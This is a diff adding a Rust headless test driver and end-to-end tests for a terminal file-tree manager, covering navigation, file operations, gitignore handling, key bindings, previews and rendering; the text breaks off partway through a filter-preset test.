@@ -0,0 +1,1871 @@
+//! Headless driver for end-to-end tests: an `App` over a scratch directory that
+//! is fed key events through the real handlers and rendered to a `TestBackend`.
+//!
+//! Compiled for `cargo test`, or for other builds with `--features test-driver`.
+#![cfg_attr(not(test), allow(dead_code))]
+
+use crate::app::App;
+use crate::config::Config;
+use crossterm::event::{KeyCode, KeyModifiers};
+use ratatui::{backend::TestBackend, Terminal};
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+/// A scratch directory under the system temp dir, removed when dropped.
+pub struct TempDir {
+    path: PathBuf,
+}
+
+impl TempDir {
+    pub fn new() -> anyhow::Result<Self> {
+        static COUNTER: AtomicUsize = AtomicUsize::new(0);
+        let path = std::env::temp_dir().join(format!(
+            "grove-test-{}-{}",
+            std::process::id(),
+            COUNTER.fetch_add(1, Ordering::Relaxed)
+        ));
+        std::fs::create_dir_all(&path)?;
+        // Canonical so paths compare equal to the ones grove builds (macOS /tmp is a symlink)
+        Ok(Self {
+            path: path.canonicalize()?,
+        })
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+}
+
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.path);
+    }
+}
+
+/// An `App` rooted in a fresh `TempDir`, without a watcher, terminal or editor.
+pub struct TestApp {
+    pub app: App,
+    dir: TempDir,
+}
+
+impl TestApp {
+    /// Create the listed files (a trailing `/` makes a directory) and load the tree.
+    pub fn with_files(files: &[(&str, &str)]) -> anyhow::Result<Self> {
+        Self::with_config(files, Config::default())
+    }
+
+    pub fn with_config(files: &[(&str, &str)], config: Config) -> anyhow::Result<Self> {
+        let dir = TempDir::new()?;
+        for (rel, content) in files {
+            let path = dir.path().join(rel);
+            if rel.ends_with('/') {
+                std::fs::create_dir_all(&path)?;
+            } else {
+                if let Some(parent) = path.parent() {
+                    std::fs::create_dir_all(parent)?;
+                }
+                std::fs::write(&path, content)?;
+            }
+        }
+
+        let mut app = App::new(dir.path().to_path_buf(), config);
+        // Undo entries from tests stay in memory instead of the user's data directory
+        app.journal = crate::journal::Journal::open(None, app.config.undo_max_age, app.config.undo_max_entries);
+        app.refresh()?;
+        Ok(Self { app, dir })
+    }
+
+    pub fn root(&self) -> &Path {
+        self.dir.path()
+    }
+
+    /// Absolute path of `rel` inside the scratch directory.
+    pub fn path(&self, rel: &str) -> PathBuf {
+        self.dir.path().join(rel)
+    }
+
+    /// Send one key through `handle_key`. Errors end up in the error popup, as in the real loop,
+    /// and background expand all and git status finish before the next key, like scripted keys.
+    pub fn press(&mut self, key: KeyCode) -> &mut Self {
+        self.press_with(key, KeyModifiers::NONE)
+    }
+
+    pub fn press_with(&mut self, key: KeyCode, modifiers: KeyModifiers) -> &mut Self {
+        self.settle_git();
+        if let Err(e) = crate::handle_key(&mut self.app, key, modifiers) {
+            let path = self.app.current_entry().map(|e| e.path.clone());
+            self.app
+                .show_error(crate::errors::ErrorDetails::new("Operation", path.as_deref(), &e));
+        }
+        while self.app.expand_job.is_some() {
+            if let Err(e) = self.app.poll_expand_job() {
+                self.app
+                    .show_error(crate::errors::ErrorDetails::new("Expand all", None, &e));
+            }
+            std::thread::sleep(std::time::Duration::from_millis(1));
+        }
+        self.settle_git()
+    }
+
+    /// Wait for `git status` to answer everything asked so far.
+    pub fn settle_git(&mut self) -> &mut Self {
+        while self.app.git_status.as_ref().is_some_and(|status| status.is_busy()) {
+            self.app.poll_git_status();
+            std::thread::sleep(std::time::Duration::from_millis(1));
+        }
+        self
+    }
+
+    /// Press each character of `text` as a separate key.
+    pub fn type_str(&mut self, text: &str) -> &mut Self {
+        for c in text.chars() {
+            self.press(KeyCode::Char(c));
+        }
+        self
+    }
+
+    /// Play a key sequence in `--keys` notation, e.g. `"jl a notes.md<CR>"`.
+    pub fn keys(&mut self, sequence: &str) -> &mut Self {
+        for (key, modifiers) in crate::keymap::parse_sequence(sequence).expect("key sequence") {
+            self.press_with(key, modifiers);
+        }
+        self
+    }
+
+    /// The visible tree as `depth`-indented names, like `["src", "  main.rs"]`.
+    pub fn tree(&self) -> Vec<String> {
+        self.app
+            .entries
+            .iter()
+            .map(|e| format!("{}{}", "  ".repeat(e.depth), e.name))
+            .collect()
+    }
+
+    /// Name of the entry under the cursor.
+    pub fn current_name(&self) -> Option<&str> {
+        self.app.current_entry().map(|e| e.name.as_str())
+    }
+
+    pub fn status(&self) -> Option<&str> {
+        self.app.status_message.as_ref().map(|m| m.text.as_str())
+    }
+
+    /// Draw a frame of `width` x `height` and return it as lines of text.
+    pub fn render(&mut self, width: u16, height: u16) -> Vec<String> {
+        self.settle_git();
+        let mut terminal = Terminal::new(TestBackend::new(width, height)).expect("test backend");
+        terminal
+            .draw(|f| crate::ui::draw(f, &mut self.app))
+            .expect("draw");
+        self.app.needs_redraw = false;
+        let buffer = terminal.backend().buffer();
+        (0..height)
+            .map(|y| {
+                (0..width)
+                    .map(|x| buffer[(x, y)].symbol())
+                    .collect::<String>()
+                    .trim_end()
+                    .to_string()
+            })
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::app::AppMode;
+
+    #[test]
+    fn path_argument_is_resolved_or_rejected() {
+        let dir = TempDir::new().unwrap();
+        std::fs::create_dir(dir.path().join("src")).unwrap();
+        std::fs::write(dir.path().join("src/main.rs"), "").unwrap();
+
+        let resolved = crate::cli::resolve_path(&dir.path().join("src/../src/main.rs")).unwrap();
+        assert_eq!(resolved, dir.path().join("src/main.rs"));
+
+        let err = crate::cli::resolve_path(&dir.path().join("missing")).unwrap_err().to_string();
+        assert!(err.ends_with("missing: no such file or directory"), "{}", err);
+
+        if let Some(home) = dirs::home_dir().and_then(|h| h.canonicalize().ok()) {
+            assert_eq!(crate::cli::resolve_path(Path::new("~")).unwrap(), home);
+        }
+    }
+
+    #[test]
+    fn navigates_and_expands() {
+        let mut t = TestApp::with_files(&[("src/main.rs", ""), ("README.md", "")]).unwrap();
+        assert_eq!(t.tree(), ["src", "README.md"]);
+
+        t.press(KeyCode::Char('l'));
+        assert_eq!(t.tree(), ["src", "  main.rs", "README.md"]);
+
+        t.press(KeyCode::Char('j'));
+        assert_eq!(t.current_name(), Some("main.rs"));
+        t.press(KeyCode::Char('h'));
+        assert_eq!(t.current_name(), Some("src"));
+    }
+
+    #[test]
+    fn creates_files_with_missing_parents() {
+        let mut t = TestApp::with_files(&[]).unwrap();
+        t.press(KeyCode::Char('a')).type_str("docs/notes.md").press(KeyCode::Enter);
+
+        assert!(t.path("docs/notes.md").is_file());
+        assert_eq!(t.current_name(), Some("notes.md"));
+        assert_eq!(t.app.mode, AppMode::Normal);
+    }
+
+    #[test]
+    fn create_refuses_parent_paths() {
+        let mut t = TestApp::with_files(&[]).unwrap();
+        t.press(KeyCode::Char('a')).type_str("../escape.txt").press(KeyCode::Enter);
+
+        assert!(!t.root().parent().unwrap().join("escape.txt").exists());
+        assert!(t.status().is_some());
+    }
+
+    #[test]
+    fn rename_keeps_extension() {
+        let mut t = TestApp::with_files(&[("report_v1.pdf", "x")]).unwrap();
+        t.keys("r report_v2<CR>");
+
+        assert!(!t.path("report_v1.pdf").exists());
+        assert_eq!(std::fs::read_to_string(t.path("report_v2.pdf")).unwrap(), "x");
+    }
+
+    #[test]
+    fn rename_tab_selects_whole_name() {
+        let mut t = TestApp::with_files(&[("notes.txt", "")]).unwrap();
+        t.keys("r<Tab>README<CR>");
+        assert!(t.path("README").is_file());
+
+        t.keys("r<End>.md<CR>");
+        assert!(t.path("README.md").is_file());
+    }
+
+    #[test]
+    fn moves_marked_entries_with_completion() {
+        let mut t = TestApp::with_files(&[("a.txt", "a"), ("b.txt", "b"), ("archive/2024/", "")]).unwrap();
+        t.keys("jv jv M ar<Tab>2<Tab>");
+        assert_eq!(t.app.input_buffer.as_str(), "archive/2024/");
+
+        t.keys("<CR>");
+        assert!(t.path("archive/2024/a.txt").is_file());
+        assert!(t.path("archive/2024/b.txt").is_file());
+        assert!(t.app.marked.is_empty());
+        assert_eq!(t.current_name(), Some("a.txt"));
+    }
+
+    #[test]
+    fn move_to_bookmark() {
+        let mut config = Config::default();
+        let t0 = TestApp::with_files(&[]).unwrap();
+        config.bookmarks = vec![("inbox".to_string(), t0.path(""))];
+        let mut t = TestApp::with_config(&[("note.md", "")], config).unwrap();
+        t.keys("M @in<Tab><CR>");
+
+        assert!(t0.path("note.md").is_file());
+        assert!(!t.path("note.md").exists());
+    }
+
+    #[test]
+    fn copying_over_an_ancestor_never_removes_it() {
+        let mut t = TestApp::with_files(&[("foo/foo", "inner"), ("foo/other", "keep")]).unwrap();
+        let over_parent = |t: &TestApp| crate::app::Transfer {
+            src: t.path("foo/foo"),
+            dest: t.path("foo"),
+            cut: false,
+        };
+        t.app.transfers.push_back(over_parent(&t));
+        crate::run_transfers(&mut t.app).unwrap();
+        assert_eq!(t.app.mode, AppMode::Confirm(crate::app::ConfirmKind::Conflict));
+        t.keys("o");
+        assert_eq!(t.status(), Some("Can't overwrite foo with something inside it; use [k]eep both"));
+        assert_eq!(std::fs::read_to_string(t.path("foo/other")).unwrap(), "keep");
+        t.keys("k");
+        assert_eq!(std::fs::read_to_string(t.path("foo copy")).unwrap(), "inner");
+
+        // Overwrites that are normally silent still ask
+        t.app.config.policy.set(crate::policy::Operation::Overwrite, crate::policy::Rule::Allow);
+        t.app.transfers.push_back(over_parent(&t));
+        crate::run_transfers(&mut t.app).unwrap();
+        assert_eq!(t.app.mode, AppMode::Confirm(crate::app::ConfirmKind::Conflict));
+        assert!(t.path("foo/foo").is_file());
+    }
+
+    #[test]
+    fn pasting_a_directory_into_itself_never_overwrites_inside_it() {
+        let mut t = TestApp::with_files(&[("a/a/keep.txt", "keep")]).unwrap();
+        t.keys("y p");
+        assert_eq!(t.status(), Some("Can't copy a into itself"));
+        assert_eq!(t.app.mode, AppMode::Normal);
+        assert_eq!(std::fs::read_to_string(t.path("a/a/keep.txt")).unwrap(), "keep");
+
+        // Not even when overwriting is silent
+        t.app.config.policy.set(crate::policy::Operation::Overwrite, crate::policy::Rule::Allow);
+        t.keys("p");
+        assert_eq!(std::fs::read_to_string(t.path("a/a/keep.txt")).unwrap(), "keep");
+        let front = crate::app::Transfer {
+            src: t.path("a"),
+            dest: t.path("a/a"),
+            cut: false,
+        };
+        t.app.transfers.push_back(front);
+        assert!(!crate::overwrite_front(&mut t.app));
+        assert_eq!(std::fs::read_to_string(t.path("a/a/keep.txt")).unwrap(), "keep");
+    }
+
+    #[test]
+    fn copies_to_directory_with_conflict_prompt() {
+        let mut t = TestApp::with_files(&[("backup/", ""), ("notes.md", "new"), ("backup/notes.md", "old")]).unwrap();
+        t.keys("j C backup<CR>");
+        assert_eq!(t.app.mode, AppMode::Confirm(crate::app::ConfirmKind::Conflict));
+
+        t.keys("k");
+        assert_eq!(std::fs::read_to_string(t.path("backup/notes.md")).unwrap(), "old");
+        assert_eq!(std::fs::read_to_string(t.path("backup/notes copy.md")).unwrap(), "new");
+
+        t.keys("C backup<CR>o");
+        assert_eq!(std::fs::read_to_string(t.path("backup/notes.md")).unwrap(), "new");
+        assert!(t.path("notes.md").is_file());
+    }
+
+    #[test]
+    fn paste_into_same_directory_duplicates() {
+        let mut t = TestApp::with_files(&[("a.txt", "data"), ("dir/b.txt", "")]).unwrap();
+        t.keys("G yp");
+        assert_eq!(t.app.mode, AppMode::Normal);
+        assert_eq!(std::fs::read_to_string(t.path("a copy.txt")).unwrap(), "data");
+        t.keys("p");
+        assert_eq!(std::fs::read_to_string(t.path("a copy 2.txt")).unwrap(), "data");
+        assert_eq!(std::fs::read_to_string(t.path("a.txt")).unwrap(), "data");
+
+        // The same directory reached through a symlink is still the same directory
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink(t.root(), t.path("dir/up")).unwrap();
+            t.app.transfers.push_back(crate::app::Transfer {
+                src: t.path("a.txt"),
+                dest: t.path("dir/up/a.txt"),
+                cut: false,
+            });
+            crate::run_transfers(&mut t.app).unwrap();
+            assert!(t.path("a copy 3.txt").is_file());
+        }
+
+        // A cut pasted where it already is stays put and stays on the clipboard
+        t.keys("G xp");
+        assert_eq!(t.status(), Some("a.txt is already here"));
+        assert!(t.app.clipboard.as_ref().is_some_and(|c| c.is_cut));
+        assert!(t.path("a.txt").is_file());
+    }
+
+    #[test]
+    fn dims_and_hides_ignored_files() {
+        let mut t = TestApp::with_files(&[(".gitignore", "target/\n"), ("target/app", ""), ("src/", ""), ("notes.md", "")]).unwrap();
+        let ignored: Vec<&str> = t.app.entries.iter().filter(|e| e.is_ignored).map(|e| e.name.as_str()).collect();
+        assert_eq!(ignored, ["target"]);
+
+        t.keys("I");
+        assert_eq!(t.tree(), ["src", "notes.md"]);
+        t.keys("I");
+        assert_eq!(t.tree(), ["src", "target", "notes.md"]);
+        assert!(!t.app.entries[1].is_ignored);
+    }
+
+    #[test]
+    fn appends_to_nearest_gitignore() {
+        let mut t = TestApp::with_files(&[("src/debug.log", ""), ("src/lib.rs", "")]).unwrap();
+        t.keys("lj ie");
+        assert_eq!(std::fs::read_to_string(t.path(".gitignore")).unwrap(), "*.log\n");
+        assert!(t.app.entries[1].is_ignored);
+
+        std::fs::write(t.path("src/.gitignore"), "tmp").unwrap();
+        t.keys("j ip");
+        assert_eq!(std::fs::read_to_string(t.path("src/.gitignore")).unwrap(), "tmp\n/lib.rs\n");
+        assert!(t.app.entries[2].is_ignored);
+    }
+
+    #[test]
+    fn plays_scripted_keys() {
+        let mut t = TestApp::with_files(&[("src/lib.rs", "")]).unwrap();
+        t.keys("l a my<Space>notes.md<CR>");
+
+        assert!(t.path("src/my notes.md").is_file());
+        assert_eq!(t.tree(), ["src", "  lib.rs", "  my notes.md"]);
+
+        t.keys("q");
+        assert!(t.app.should_quit);
+    }
+
+    #[test]
+    fn search_n_and_shift_n_never_go_into_the_query() {
+        let mut t = TestApp::with_files(&[("alpha.txt", ""), ("beta.txt", "")]).unwrap();
+        t.keys("/zz n N");
+        assert_eq!(t.app.search_query, "zz");
+        t.keys("<BS><BS>ta n");
+        assert_eq!(t.app.search_query, "ta");
+        assert_eq!(t.current_name(), Some("beta.txt"));
+    }
+
+    #[test]
+    fn key_overrides_add_keys_and_refuse_ones_in_use() {
+        use crate::keymap::{help_rows, HelpRow, BINDINGS};
+        let pairs = [("quit", "Q"), ("delete", "j"), ("refresh", "5")];
+        let config = Config {
+            key_overrides: pairs.iter().map(|(a, k)| (a.to_string(), k.to_string())).collect(),
+            ..Config::default()
+        };
+        let mut t = TestApp::with_config(&[("a.txt", ""), ("b.txt", "")], config).unwrap();
+        let status = t.status().unwrap().to_string();
+        assert!(status.contains("`j` for `delete` already runs `move_down`"), "{}", status);
+        assert!(status.contains("`5` for `refresh` already picks a [filters] preset"), "{}", status);
+
+        t.keys("j");
+        assert_eq!(t.current_name(), Some("b.txt"));
+        assert!(!t.app.should_quit);
+
+        // Help lists the keys dispatch uses, with the extra one next to them
+        let rows = help_rows(&t.app.keymap, "quit");
+        assert!(rows.iter().any(|row| matches!(row, HelpRow::Binding(b, Some(k)) if b.keys() == "q" && k == "Q")));
+        let rows = help_rows(&t.app.keymap, "expand / open");
+        assert!(rows.iter().any(|row| matches!(row, HelpRow::Binding(b, None) if b.keys() == "l/→/Enter")));
+
+        t.keys("Q");
+        assert!(t.app.should_quit);
+
+        // Every default key does one thing
+        let codes: Vec<_> = BINDINGS.iter().flat_map(|b| b.codes).collect();
+        let unique: std::collections::HashSet<_> = codes.iter().collect();
+        assert_eq!(unique.len(), codes.len());
+    }
+
+    #[test]
+    fn rejects_unknown_key_names() {
+        assert!(crate::keymap::parse_sequence("j<Nope>").is_err());
+        assert_eq!(
+            crate::keymap::parse_sequence("<C-c><lt><F12>").unwrap(),
+            [
+                (KeyCode::Char('c'), KeyModifiers::CONTROL),
+                (KeyCode::Char('<'), KeyModifiers::NONE),
+                (KeyCode::F(12), KeyModifiers::NONE),
+            ]
+        );
+    }
+
+    #[test]
+    fn directory_preview_shows_readme() {
+        let readme = "# Docs\n\n[![ci](badge.svg)](ci)\nSee [the guide](guide.md) for **details**.\n";
+        let mut t = TestApp::with_files(&[("docs/README.md", readme), ("docs/guide.md", "")]).unwrap();
+        t.keys("<Space>");
+        let screen = t.render(100, 40).join("\n");
+
+        assert!(screen.contains("── README.md ──"));
+        assert!(screen.contains("See the guide for details."));
+        assert!(!screen.contains("# Docs") && !screen.contains("badge"));
+        assert!(screen.contains("guide.md"));
+    }
+
+    #[test]
+    fn tree_scrolls_with_cursor() {
+        let files: Vec<String> = (0..30).map(|i| format!("file{:02}", i)).collect();
+        let files: Vec<(&str, &str)> = files.iter().map(|f| (f.as_str(), "")).collect();
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.keys("G");
+        let screen = t.render(40, 12);
+        assert!(screen.iter().any(|l| l.contains("file29")));
+        assert!(!screen.iter().any(|l| l.contains("file00")));
+
+        t.keys("g");
+        assert!(t.render(40, 12).iter().any(|l| l.contains("file00")));
+    }
+
+    #[test]
+    fn large_trees_only_draw_the_rows_on_screen() {
+        let files: Vec<String> = (0..5000).map(|i| format!("file{:04}", i)).collect();
+        let files: Vec<(&str, &str)> = files.iter().map(|f| (f.as_str(), "")).collect();
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.app.debug.visible = true;
+        t.keys("G");
+        let screen = t.render(80, 24).join("\n");
+        assert!(screen.contains("entries  5000 (20 drawn)"), "{}", screen);
+        assert_eq!(t.app.visible_entries(), 4980..5000);
+    }
+
+    #[test]
+    fn jumps_to_labelled_entry() {
+        let mut t = TestApp::with_files(&[("a", ""), ("b", ""), ("c", "")]).unwrap();
+        t.render(40, 12);
+        t.keys("s");
+        let screen = t.render(40, 12);
+        assert!(screen[3].starts_with("│d"));
+
+        t.keys("d");
+        assert_eq!(t.current_name(), Some("c"));
+        assert_eq!(t.app.mode, AppMode::Normal);
+
+        t.keys("sz");
+        assert_eq!(t.current_name(), Some("c"));
+        assert_eq!(t.app.mode, AppMode::Normal);
+    }
+
+    #[test]
+    fn find_char_cycles_through_matches() {
+        let mut t = TestApp::with_files(&[("Readme", ""), ("main.rs", ""), ("rust.toml", "")]).unwrap();
+        t.keys("fr");
+        assert_eq!(t.current_name(), Some("Readme"));
+        t.keys(";");
+        assert_eq!(t.current_name(), Some("rust.toml"));
+        t.keys(";");
+        assert_eq!(t.current_name(), Some("Readme"));
+        t.keys(",");
+        assert_eq!(t.current_name(), Some("rust.toml"));
+
+        t.keys("fx");
+        assert_eq!(t.current_name(), Some("rust.toml"));
+        assert!(t.status().is_some_and(|s| s.contains("'x'")));
+    }
+
+    #[test]
+    fn details_view_sorts_by_column() {
+        let mut t = TestApp::with_files(&[("small", "x"), ("big", "xxxxxxxx"), ("medium", "xxxx"), ("dir/", "")]).unwrap();
+        t.keys("D");
+        let screen = t.render(80, 12);
+        assert!(screen[1].contains("Name ▲") && screen[1].contains("Size") && screen[1].contains("Modified"));
+        assert!(screen[3].contains("big") && screen[3].contains("8 B"));
+
+        t.keys("o");
+        assert_eq!(t.tree(), ["dir", "big", "medium", "small"]);
+        assert!(t.render(80, 12)[1].contains("Size ▼"));
+        t.keys("-");
+        assert_eq!(t.tree(), ["dir", "small", "medium", "big"]);
+    }
+
+    #[test]
+    fn size_thresholds_from_config() {
+        use crate::config::{SizeLevel, Table};
+        let table = Table::parse("[sizes]\nwarn = \"1.5KB\"\nalert = 4096").unwrap();
+        let config = Config::from_table(&table);
+        assert_eq!(config.size_level(1535), None);
+        assert_eq!(config.size_level(1536), Some(SizeLevel::Warn));
+        assert_eq!(config.size_level(5000), Some(SizeLevel::Alert));
+
+        let off = Config::from_table(&Table::parse("[sizes]\nwarn = 0\nalert = 0").unwrap());
+        assert_eq!(off.size_level(u64::MAX), None);
+    }
+
+    #[test]
+    fn modified_times_age_by_day_and_week() {
+        use crate::ui::tree::{age, Age};
+        use chrono::TimeZone;
+        let now = chrono::Local.with_ymd_and_hms(2024, 5, 10, 9, 0, 0).unwrap();
+        let at = |d, h| std::time::SystemTime::from(chrono::Local.with_ymd_and_hms(2024, 5, d, h, 0, 0).unwrap());
+
+        assert_eq!(age(at(10, 0), now), Age::Today);
+        assert_eq!(age(at(10, 23), now), Age::Today);
+        assert_eq!(age(at(9, 23), now), Age::ThisWeek);
+        assert_eq!(age(at(3, 10), now), Age::ThisWeek);
+        assert_eq!(age(at(3, 8), now), Age::Older);
+    }
+
+    #[test]
+    fn labels_mount_points_in_tree() {
+        let mut t = TestApp::with_files(&[("share/a.txt", ""), ("local/b.txt", "")]).unwrap();
+        assert!(t.app.entries.iter().all(|e| e.mount.is_none()));
+        t.app.entries[1].mount = Some("nfs");
+        let screen = t.render(60, 10).join("\n");
+        assert!(screen.contains("share [nfs]"), "{}", screen);
+        assert!(!screen.contains("local ["), "{}", screen);
+
+        let table = crate::config::Table::parse("[watch]\ncross_filesystems = false").unwrap();
+        assert!(!Config::from_table(&table).cross_filesystems);
+        assert!(Config::default().cross_filesystems);
+    }
+
+    #[test]
+    fn status_bar_shows_free_space() {
+        use crate::fs::mounts::DiskSpace;
+        let mut t = TestApp::with_files(&[("a.txt", "")]).unwrap();
+        let gb = 1024 * 1024 * 1024;
+        t.app.disk_space = Some(DiskSpace { available: 12 * gb, total: 100 * gb });
+        let screen = t.render(60, 10);
+        assert!(screen[8].ends_with("12.0 GB free of 100.0 GB"), "{:?}", screen);
+        assert!(!t.app.disk_space.unwrap().is_low());
+        assert!(DiskSpace { available: 4 * gb, total: 100 * gb }.is_low());
+
+        t.keys("a");
+        assert!(!t.render(60, 10)[8].contains("free of"));
+    }
+
+    #[test]
+    fn pager_command_by_extension() {
+        use crate::config::Table;
+        let table = Table::parse("[pager]\ndefault = \"less -R\"\nMD = \"glow -p\"").unwrap();
+        let config = Config::from_table(&table);
+        assert_eq!(config.pager_for(std::path::Path::new("notes.md")), "glow -p");
+        assert_eq!(config.pager_for(std::path::Path::new("main.rs")), "less -R");
+
+        let mut t = TestApp::with_files(&[("src/main.rs", "")]).unwrap();
+        t.keys("P");
+        assert!(t.app.pending_pager_file.is_none());
+        assert!(t.status().is_some_and(|s| s.contains("directory")));
+        t.keys("lj");
+        t.keys("P");
+        assert_eq!(t.app.pending_pager_file, Some(t.path("src/main.rs")));
+    }
+
+    #[test]
+    fn previewer_commands_preview_files_by_extension() {
+        use crate::config::Table;
+        use crate::preview::PreviewContent;
+        let toml = "[previewer]\nCSV = \"head -n 1\"\nlog = \"cat {path} {path}\"\nbin = \"no-such-previewer\"";
+        let config = Config::from_table(&Table::parse(toml).unwrap());
+        let mut t = TestApp::with_config(&[("b.bin", "x"), ("c.log", "end"), ("notes.txt", "a\nb")], config).unwrap();
+        // Bigger than built-in previews read, which doesn't stop a command
+        let rows: String = (0..5000).map(|i| format!("{},{}\n", i, i)).collect();
+        std::fs::write(t.path("a.csv"), format!("name,size\n{}", rows)).unwrap();
+        t.app.refresh().unwrap();
+
+        let wait = || std::thread::sleep(std::time::Duration::from_millis(10));
+        let text = |t: &mut TestApp, rel: &str| {
+            let path = t.path(rel);
+            let mut content = t.app.previewers.generate(&path).unwrap().content;
+            while let PreviewContent::Loading { .. } = content {
+                for (done, arrived) in t.app.previewers.poll() {
+                    if done == path {
+                        content.fill(arrived);
+                    }
+                }
+                wait();
+            }
+            match content {
+                PreviewContent::Text(lines) => lines,
+                PreviewContent::Error(e) => vec![format!("error: {}", e)],
+                other => panic!("{:?}", other),
+            }
+        };
+        assert_eq!(text(&mut t, "a.csv"), ["name,size"]);
+        assert_eq!(text(&mut t, "c.log"), ["endend"]);
+        assert_eq!(text(&mut t, "notes.txt"), ["a", "b"]);
+        assert!(text(&mut t, "b.bin")[0].starts_with("error: Could not run no-such-previewer"));
+
+        // The tree doesn't wait for the command
+        t.keys("<Space>");
+        assert!(t.render(80, 24).join("\n").contains("[Running head…]"));
+        while !t.render(80, 24).join("\n").contains("name,size") {
+            t.app.poll_previews();
+            wait();
+        }
+    }
+
+    #[test]
+    fn flattened_directories_show_one_summary_row() {
+        use crate::watcher::{ChangeKind, WatchEvent};
+        let config = Config {
+            flatten_dirs: vec!["vendor".into()],
+            ..Config::default()
+        };
+        let files = [("vendor/a/b.txt", "12345"), ("vendor/c.txt", "67890"), ("src/main.rs", "")];
+        let mut t = TestApp::with_config(&files, config).unwrap();
+        let summary = |t: &mut TestApp| {
+            for _ in 0..200 {
+                t.app.poll_flatten();
+                if let Some(summary) = t.app.summaries.as_ref().and_then(|s| s.get(&t.path("vendor"))) {
+                    return summary;
+                }
+                std::thread::sleep(std::time::Duration::from_millis(10));
+            }
+            panic!("vendor was never counted");
+        };
+        assert!(t.render(60, 10).iter().any(|l| l.contains("vendor — counting…")));
+        assert_eq!(summary(&mut t), crate::flatten::Summary { files: 2, bytes: 10 });
+        assert!(t.render(60, 10).iter().any(|l| l.contains("vendor — 2 files, 10 B")));
+
+        // Neither opening nor expanding everything goes inside
+        t.keys("jl");
+        assert_eq!(t.status(), Some("vendor is flattened; z opens it"));
+        t.keys("E");
+        assert_eq!(t.tree(), vec!["src", "  main.rs", "vendor"]);
+
+        // Changes inside only recount it
+        let (tx, rx) = std::sync::mpsc::channel();
+        t.app.watcher_rx = Some(rx);
+        std::fs::write(t.path("vendor/d.txt"), "1").unwrap();
+        let event = |path| WatchEvent { path, kind: ChangeKind::Created, time: std::time::Instant::now() };
+        tx.send(event(t.path("vendor/d.txt"))).unwrap();
+        tx.send(event(t.path("src/lib.rs"))).unwrap();
+        t.app.check_watcher().unwrap();
+        let logged: Vec<&Path> = t.app.events.iter_newest().map(|e| e.path.as_path()).collect();
+        assert_eq!(logged, [t.path("src/lib.rs")]);
+        assert_eq!(summary(&mut t).files, 3);
+
+        t.keys("Gz");
+        assert_eq!(t.status(), Some("Opened vendor"));
+        assert_eq!(t.tree(), vec!["src", "  main.rs", "vendor", "  a", "  c.txt", "  d.txt"]);
+        t.keys("kkz");
+        assert_eq!(t.tree(), vec!["src", "vendor", "  a", "  c.txt", "  d.txt"]);
+        assert!(t.render(60, 10).iter().any(|l| l.contains("src — counting…")));
+    }
+
+    #[test]
+    fn enter_changes_root_when_configured() {
+        let config = Config {
+            enter_changes_root: true,
+            ..Config::default()
+        };
+        let mut t = TestApp::with_config(&[("proj/src/main.rs", ""), ("proj/README.md", ""), ("other.txt", "")], config)
+            .unwrap();
+        let top = t.root().canonicalize().unwrap();
+        t.keys("<CR>");
+        assert_eq!(t.app.root_path, top.join("proj"));
+        assert_eq!(t.tree(), vec!["src", "README.md"]);
+
+        // l still expands in place
+        t.keys("l");
+        assert_eq!(t.tree(), vec!["src", "  main.rs", "README.md"]);
+
+        t.keys("hh");
+        assert_eq!(t.app.root_path, top);
+        assert_eq!(t.current_name(), Some("proj"));
+        assert_eq!(t.tree(), vec!["proj", "  src", "  README.md", "other.txt"]);
+    }
+
+    #[test]
+    fn collapsed_directories_show_entry_counts() {
+        let mut t = TestApp::with_files(&[("src/a.rs", ""), ("src/b.rs", ""), ("src/.hidden", ""), ("empty/", "")]).unwrap();
+        assert!(!t.render(60, 10).join("\n").contains("(+"));
+
+        t.keys("#");
+        let screen = t.render(60, 10).join("\n");
+        assert!(screen.contains("src (+2)"), "{}", screen);
+        assert!(!screen.contains("empty (+"), "{}", screen);
+
+        t.keys("jl");
+        assert!(!t.render(60, 10).join("\n").contains("src (+"));
+    }
+
+    #[test]
+    fn groups_files_by_extension() {
+        let mut t = TestApp::with_files(&[
+            ("src/", ""),
+            ("a.rs", ""),
+            ("b.rs", ""),
+            ("logo.png", ""),
+            ("Makefile", ""),
+            ("data.xyz", ""),
+        ])
+        .unwrap();
+        t.keys("e");
+        assert_eq!(t.tree(), vec!["src", "Images", "Rust", "XYZ", "Other"]);
+        assert!(t.render(60, 10).join("\n").contains("▸ Rust (2)"));
+
+        t.keys("jjl");
+        assert_eq!(t.tree(), vec!["src", "Images", "Rust", "  a.rs", "  b.rs", "XYZ", "Other"]);
+        t.keys("j");
+        assert_eq!(t.current_name(), Some("a.rs"));
+        t.keys("h");
+        assert_eq!(t.app.cursor, 2);
+        assert!(t.app.current_entry().is_none());
+        t.keys("d");
+        assert_eq!(t.app.mode, crate::app::AppMode::Normal);
+        t.keys("h");
+        assert_eq!(t.tree(), vec!["src", "Images", "Rust", "XYZ", "Other"]);
+
+        t.keys("e");
+        assert_eq!(t.tree(), vec!["src", "a.rs", "b.rs", "data.xyz", "logo.png", "Makefile"]);
+    }
+
+    #[test]
+    fn filter_shows_recently_changed_files() {
+        let mut t = TestApp::with_files(&[("src/new.rs", ""), ("src/old.rs", ""), ("notes.txt", "")]).unwrap();
+        let two_days_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(2 * 24 * 60 * 60);
+        for old in ["src/old.rs", "notes.txt"] {
+            std::fs::File::options().write(true).open(t.path(old)).unwrap().set_modified(two_days_ago).unwrap();
+        }
+
+        t.keys("F~1h<CR>");
+        assert_eq!(t.tree(), vec!["src", "  new.rs"]);
+        t.keys("F<BS><BS>1w<CR>");
+        assert_eq!(t.tree(), vec!["src", "  new.rs", "  old.rs", "notes.txt"]);
+        t.keys("F<BS><BS>1h,notes<CR>");
+        assert_eq!(t.tree(), vec!["src", "  new.rs", "notes.txt"]);
+    }
+
+    #[test]
+    fn number_keys_apply_filter_presets() {
+        let table = crate::config::Table::parse("[filters]\ncode = \"*.rs,*.toml\"\ndocs = \"*.md\"").unwrap();
+        let files = [("src/main.rs", ""), ("Cargo.toml", ""), ("README.md", ""), ("notes.rs.bak", "")];
+        let mut t = TestApp::with_config(&files, Config::from_table(&table)).unwrap();
+
+        t.keys("1");
